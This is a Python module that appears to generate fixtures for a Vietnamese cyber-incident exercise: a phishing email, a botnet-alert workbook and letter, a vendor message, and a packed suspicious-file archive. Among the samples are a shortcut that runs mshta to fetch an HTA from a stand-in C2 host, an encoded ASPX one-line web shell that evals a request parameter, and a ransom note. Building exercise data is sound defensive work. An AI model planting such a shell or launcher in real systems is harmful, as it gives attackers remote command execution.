"""The phishing mail, the national centre's letter and list, the vendor's message and the packed suspicious files."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import inbox_story as story
from inbox_zipcrypto import encrypted_zip

from atttcli.rulepack.samples import unpack

LETTER_NUMBER = "312/CATTT-NCSC"
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]{0,300}>)[^<]{0,40}")
_LNK_HEAD = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56


def phishing_mail() -> bytes:
    """A message to the commune's office mailbox: a false upgrade notice with a link and a zipped shortcut (inert)."""
    mail = EmailMessage()
    mail["Received"] = (
        f"from smtp.dangnhap.example (unknown [{story.SPRAYER}]) by {story.MAIL_NAME} with ESMTP id 2C1; "
        + format_datetime(story.PHISH_AT)
    )
    mail["From"] = '"Quản trị thư điện tử" <quantri@dangnhap.example>'
    mail["To"] = story.COMMUNE_MAILBOX
    mail["Subject"] = "Nâng cấp hộp thư công vụ - xác minh trước 17h00 ngày 11/5/2021"
    mail["Date"] = format_datetime(story.PHISH_AT)
    mail["Message-ID"] = "<20210511081231.1@dangnhap.example>"
    mail.set_content(
        "Hộp thư của đồng chí đã vượt quá dung lượng. Đề nghị xác minh tài khoản tại\n"
        f"https://{story.FAKE_WEBMAIL}/zimbra/\nvà mở văn bản kèm theo.\n"
    )
    mail.add_attachment(_shortcut_zip(), maintype="application", subtype="zip", filename="Cong-van-nang-cap.zip")
    mail.set_boundary("=_mau_20210511")
    return mail.as_bytes()


def _shortcut_zip() -> bytes:
    target = "mshta.exe".encode("utf-16-le") + f" http://{story.C2_NAME}/capnhat.hta".encode("utf-16-le")
    return _plain_zip("Cong van 45-TB.pdf.lnk", _LNK_HEAD + target, story.PHISH_AT)


def _plain_zip(name: str, data: bytes, when: datetime) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo(name, when.timetuple()[:6]), data)
    return stream.getvalue()


def infected_workbook(path: Path) -> None:
    """The centre's list in the layout of VNCERT's workbook, its misspelt headers included, with a few bad rows."""
    import openpyxl

    book = openpyxl.Workbook()
    book.properties.created = book.properties.modified = story.PACKED_AT.replace(tzinfo=None)
    sheet = book.active
    sheet.title = "C&C Bonet"
    sheet.append(["AttackerIP", "NetwordName", "LocalIP", "LocalTCPPort", "AttankOn", "IP", "ISP"])
    for row in bot_rows():
        sheet.append(list(row))
    malware = book.create_sheet("Malware")
    malware.append(["Link", "Tên virus", "IP", "ISP", "Thời gian", "Nguồn thông tin"])
    malware.append(
        [
            f"http[:]//{story.C2_NAME.replace('.', '[.]')}/anh.jpg",
            "Trojan.Mau",
            story.C2_IP,
            "Mẫu",
            "12/5/2021 9:02 AM",
            "NCSC",
        ]
    )
    phishing = book.create_sheet("Phishing")
    phishing.append(["LINK PHISHING", "ĐÍCH GIẢ MẠO", "THỜI GIAN", "NGUỒN THÔNG TIN"])
    link = f"hxxps[:]//{story.FAKE_WEBMAIL.replace('.', '[.]')}/zimbra/"
    phishing.append([link, f"Thư điện tử công vụ ({story.MAIL_NAME})", "2021-05-11 08:12:31", "NCSC"])
    deface = book.create_sheet("Deface")
    deface.append(["Link", "Người tấn công", "Thời gian", "Nguồn"])
    stream = io.BytesIO()
    book.save(stream)
    path.write_bytes(_fixed_times(stream.getvalue()))


def bot_rows() -> list[tuple[object, ...]]:
    """Rows of the botnet sheet: AttackerIP is the infected address, LocalIP the end it called.

    One stands twice, one is nobody's, one is no address and one has no possible time.
    """
    seen = [(story.COMMUNE_PUBLIC, "Botnet Mau-A", "2021-05-12 09:00:11")]
    for index, (_, address) in enumerate(story.OTHER_VICTIMS):
        stamp = f"12/5/2021 {8 + index}:1{index} AM" if index % 2 else f"2021-05-12 0{7 + index}:21:00"
        seen.append((address, "Botnet Mau-A" if index % 2 else "downadup", stamp))
    seen.append(seen[0])
    seen.append(("203.0.113.300", "Botnet Mau-A", "2021-05-12 10:00:00"))
    seen.append((story.NOBODY, "Botnet Mau-B", "2021-05-12 10:05:00"))
    seen.append((story.COMMUNE_PUBLIC, "Botnet Mau-A", "31/02/2021 25:61"))
    return [(address, name, story.C2_IP, 80, stamp, address, "Mẫu") for address, name, stamp in seen]


def letter(path: Path) -> None:
    """The covering letter with its number, date, deadline, and a table of the addresses that matter most."""
    import docx

    document = docx.Document()
    document.core_properties.created = document.core_properties.modified = story.PACKED_AT.replace(tzinfo=None)
    document.core_properties.author = "Mẫu"
    for line in (
        "CỤC AN TOÀN THÔNG TIN\nTRUNG TÂM GIÁM SÁT AN TOÀN KHÔNG GIAN MẠNG QUỐC GIA",
        f"Số: {LETTER_NUMBER}",
        "Hà Nội, ngày 12 tháng 5 năm 2021",
        "V/v cảnh báo địa chỉ IP nhiễm mã độc, tham gia mạng botnet",
        "Kính gửi: Sở Thông tin và Truyền thông tỉnh Bắc Kạn",
        "Qua công tác giám sát, Trung tâm phát hiện các địa chỉ IP thuộc đơn vị trên địa bàn tỉnh kết nối tới máy chủ "
        f"điều khiển {story.C2_NAME.replace('.', '[.]')} ({story.C2_IP.replace('.', '[.]')}). Danh sách đầy đủ tại tệp kèm theo.",
        "Đề nghị Quý Sở chỉ đạo rà soát, xử lý và báo cáo kết quả (số máy đã xử lý/tổng số máy) trước ngày 17/5/2021.",
    ):
        document.add_paragraph(line)
    heads = (
        "STT",
        "Tên đơn vị",
        "Địa chỉ IP",
        "Cổng",
        "Thời gian (GMT+7)",
        "Loại mã độc/botnet",
        "C&C IP/domain",
        "Ghi chú",
    )
    table = document.add_table(rows=1, cols=len(heads))
    named = (("UBND xã Vi Hương", story.COMMUNE_PUBLIC), *story.OTHER_VICTIMS[:2])
    for cell, text in zip(table.rows[0].cells, heads, strict=True):
        cell.text = text
    for number, (agency, address) in enumerate(named, 1):
        c2 = f"hxxp://{story.C2_NAME.replace('.', '[.]')}/gate.php"
        row = (str(number), agency, address, "80", f"12/05/2021 09:0{number}", "Botnet Mau-A", c2, "")
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = text
    document.add_paragraph("Nơi nhận: Như trên; Lưu: VT.")
    stream = io.BytesIO()
    document.save(stream)
    path.write_bytes(_fixed_times(stream.getvalue()))


def _fixed_times(data: bytes) -> bytes:
    """The same archive with every member's time set to the story's: the same build gives the same bytes."""
    out = io.BytesIO()
    stamp = f"{story.PACKED_AT:%Y-%m-%dT%H:%M:%SZ}".encode()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            info = zipfile.ZipInfo(member.filename, story.PACKED_AT.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(info, _MODIFIED.sub(rb"\g<1>" + stamp, source.read(member)))
    return out.getvalue()


def vendor_message() -> str:
    """What the monitoring provider wrote into the duty officer's chat."""
    defanged = story.C2_NAME.replace(".", "[.]")
    return (
        f"[{story.VENDOR_AT:%H:%M %d/%m/%Y}] Bộ phận giám sát: gửi anh/chị trực.\n"
        f"Đêm 12/5 ghi nhận IP {story.WEB_ATTACKER.replace('.', '[.]')} dò quét và chèn mã SQL vào Cổng TTĐT tỉnh, sau đó có "
        f"truy cập hxxp://{story.PORTAL_NAME.replace('.', '[.]')}{story.WEB_SHELL} (nghi web shell).\n"
        f"Máy của xã Vi Hương ({story.COMMUNE_PUBLIC}) kết nối định kỳ tới {defanged} ({story.C2_IP.replace('.', '[.]')}).\n"
        f"Thư giả mạo: quantri[@]dangnhap[.]example, liên kết hxxps://{story.FAKE_WEBMAIL.replace('.', '[.]')}/zimbra/\n"
        f"Đề nghị chặn các chỉ báo trên và xử lý máy nhiễm. Mã băm tệp mẫu (SHA-256) gửi kèm sau.\n"
    )


# An inert one-line shell, stored like every rule sample so that no antivirus takes this module away.
_PACKED_SHELL = (
    "Cj4lIDspImVmYXNudSIgLF0iZG1jIlttZXRJLnRzZXVxZVIobGF2ZSAlPAo+JS0tIHBhdCBuZWlk"
    "IG9oYyBnbnVkIGlhaCBvdiBwZXQgOlVBTSAtLSU8Cj4lICJ0cGlyY3NKIj1lZ2F1Z25hTCBlZ2FQ"
    "IEAlPA=="
)


def suspicious_zip() -> bytes:
    """What the commune's officer packed with the password `infected`: a web shell imitation and a ransom note."""
    shell = unpack(_PACKED_SHELL)
    locked = "đã bị mã hóa"  # apart, or this module would itself look like a ransom note
    note = (
        f"Toàn bộ dữ liệu trên máy tính của bạn {locked}.\r\nĐể giải mã dữ liệu hãy liên hệ mau@c2.example, "
        "thanh toán bằng Bitcoin trong vòng 72 giờ.\r\nKhông được đổi tên tệp!\r\nMÃ SỐ: 0000-MAU\r\n"
    )
    members = [
        ("thong-bao.aspx", shell),
        ("DOC_TOI.txt", note.encode()),
        ("ghi-chu.txt", "Lấy từ máy 15, xã Vi Hương.\r\n".encode()),
    ]
    return encrypted_zip(members, b"infected", story.PACKED_AT)
